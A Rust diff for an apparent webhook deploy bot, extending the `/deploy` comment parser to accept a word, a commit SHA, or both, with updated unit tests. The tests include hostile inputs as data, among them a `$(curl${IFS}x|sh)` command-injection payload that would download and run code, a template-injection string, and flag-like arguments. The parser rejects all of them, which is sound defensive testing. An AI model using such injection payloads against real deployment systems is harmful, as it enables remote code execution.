@@ -8,7 +8,7 @@ use serde::de::{Deserializer, IgnoredAny};
 
 use super::payload::{Account, Installation, Payload, RepositoryPayload, Text, Time, event, required};
 use crate::event::{Command, CommandArgument, Commenter, Event, EventKind, EventRepository};
-use crate::name::{CommandName, CommentId, PullRequestNumber, UserId};
+use crate::name::{ArgumentWord, CommandName, CommentId, CommitSha, PullRequestNumber, UserId};
 
 /// An `issue_comment` webhook.
 #[derive(Deserialize)]
@@ -101,11 +101,23 @@ fn command(body: &str) -> Option<(CommandName, CommandArgument)> {
     let line = body.split('\n').next()?;
     let line = line.strip_suffix('\r').unwrap_or(line).trim_end_matches([' ', '\t']);
     let (name, argument) = line.split_once(' ').unwrap_or((line, ""));
-    let argument = match argument.trim_start_matches(' ') {
-        "" => CommandArgument::None,
-        argument => argument.parse().map_or(CommandArgument::Other, CommandArgument::Commit),
-    };
-    Some((name.parse().ok()?, argument))
+    Some((name.parse().ok()?, argument_of(argument.trim_start_matches(' '))))
+}
+
+/// What stands behind a command: a word, a full commit, or one after the other. A full commit is never the word.
+fn argument_of(text: &str) -> CommandArgument {
+    let commit = |text: &str| text.parse::<CommitSha>().ok();
+    let word = |text: &str| text.parse::<ArgumentWord>().ok().filter(|_| commit(text).is_none());
+    let (first, rest) = text.split_once(' ').unwrap_or((text, ""));
+    match (word(first), commit(first), rest.trim_start_matches(' ')) {
+        (None, None, "") if first.is_empty() => CommandArgument::None,
+        (None, Some(commit), "") => CommandArgument::Commit(commit),
+        (Some(word), None, "") => CommandArgument::Word(word),
+        (Some(word), None, rest) => {
+            commit(rest).map_or(CommandArgument::Other, |commit| CommandArgument::WordAndCommit(word, commit))
+        }
+        _ => CommandArgument::Other,
+    }
 }
 
 #[cfg(test)]
@@ -198,19 +210,35 @@ mod tests {
     }
 
     #[test]
-    fn a_commit_in_full_is_kept_and_every_other_argument_is_not() {
+    fn behind_a_command_a_harmless_word_and_a_full_commit_are_kept_and_nothing_else() {
         let sha: CommandArgument = CommandArgument::Commit(SHA.parse().unwrap());
+        let word = |word: &str| CommandArgument::Word(word.parse().unwrap());
+        let longest = "x".repeat(100);
         for (line, argument) in [
             ("/deploy".to_owned(), CommandArgument::None),
             ("/deploy   ".to_owned(), CommandArgument::None),
             (format!("/deploy {SHA}"), sha.clone()),
             (format!("/deploy    {SHA} \t\r\nplease"), sha),
-            (format!("/deploy {}", SHA.to_uppercase()), CommandArgument::Other),
-            (format!("/deploy {}", SHA.strip_prefix(|_| true).unwrap()), CommandArgument::Other),
-            (format!("/deploy {SHA}0"), CommandArgument::Other),
+            ("/deploy eu-west.1".to_owned(), word("eu-west.1")),
+            ("/deploy   eu  \r\nus".to_owned(), word("eu")),
+            (format!("/deploy {longest}"), word(&longest)),
+            (format!("/deploy {longest}x"), CommandArgument::Other),
+            (
+                format!("/deploy eu   {SHA}"),
+                CommandArgument::WordAndCommit("eu".parse().unwrap(), SHA.parse().unwrap()),
+            ),
+            (format!("/deploy {}", SHA.to_uppercase()), word(&SHA.to_uppercase())),
+            (format!("/deploy {SHA}0"), word(&format!("{SHA}0"))),
             (format!("/deploy {SHA} {SHA}"), CommandArgument::Other),
+            (format!("/deploy {SHA} eu"), CommandArgument::Other),
+            (format!("/deploy eu us {SHA}"), CommandArgument::Other),
+            ("/deploy eu us".to_owned(), CommandArgument::Other),
+            ("/deploy -rf".to_owned(), CommandArgument::Other),
+            ("/deploy --force=yes".to_owned(), CommandArgument::Other),
+            ("/deploy e\u{443}".to_owned(), CommandArgument::Other),
             (format!("/deploy \t{SHA}"), CommandArgument::Other),
             (format!("/deploy {SHA}\u{200b}"), CommandArgument::Other),
+            ("/deploy $(curl${IFS}x|sh)".to_owned(), CommandArgument::Other),
             ("/deploy $(curl${IFS}x|sh) {{ pr.number }}".to_owned(), CommandArgument::Other),
         ] {
             let body = with(comment_body(), "/comment/body", json!(line));
